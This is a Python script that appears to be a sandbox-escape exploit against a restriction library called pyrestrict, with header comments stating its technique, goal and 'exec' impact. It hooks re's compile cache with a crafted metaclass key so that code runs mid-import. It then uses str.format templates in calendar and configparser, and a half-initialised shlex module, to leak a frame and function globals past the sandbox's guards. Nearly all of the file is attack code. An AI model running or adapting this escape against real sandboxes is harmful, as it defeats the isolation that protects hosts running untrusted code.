# technique: a key in the cache of re that is compared while a module is imported: the guest's code imports other modules meanwhile, which were mended only when the import around theirs had ended
# source: reading pyrestrict: what a module of the library is lent, and how it is mended, waited for the end of the outermost import
# goal: str.format itself, which reads attributes past every guard: a frame
# impact: exec
import re

PATTERN = r'[^\w@%+=:,./-]'
ran = []
found = []


def generator():
    yield


running = generator()


class Text(str):
    _months = _days = [lambda form: form]


class Delimiter(str):
    def translate(self, *table):
        return self


def by_calendar():
    import calendar
    for names in (calendar.month_name, calendar.month_abbr, calendar.day_name, calendar.day_abbr):
        form = type(names).__getitem__(Text('{0.gi_frame}'), 0)
        found.append(form(running))


def by_configparser():
    import configparser
    import copy

    class Parser(configparser.RawConfigParser):
        _OPT_TMPL = _OPT_NV_TMPL = '{delim.function.__globals__}'

    delimiter = Delimiter(':')
    delimiter.function = copy.copy
    shown = Parser(delimiters=(delimiter,))._optcre.pattern
    if 'deepcopy' in shown:
        found.append(shown)


def by_unfinished_module():
    import shlex
    found.append(shlex)


def attack():
    for attempt in (by_calendar, by_configparser, by_unfinished_module):
        try:
            attempt()
        except (AttributeError, TypeError, ValueError, ImportError):
            pass


class Meta(type):
    def __hash__(cls):
        return hash(str)

    def __eq__(cls, other):
        if not ran:
            ran.append(True)
            attack()
        return False


class Key(str, metaclass=Meta):
    pass


for flags in (re.ASCII, re.ASCII.value, 0):
    re.compile(Key(PATTERN), flags)
ran.clear()
import shlex
if found:
    escaped(found)
print(ran)
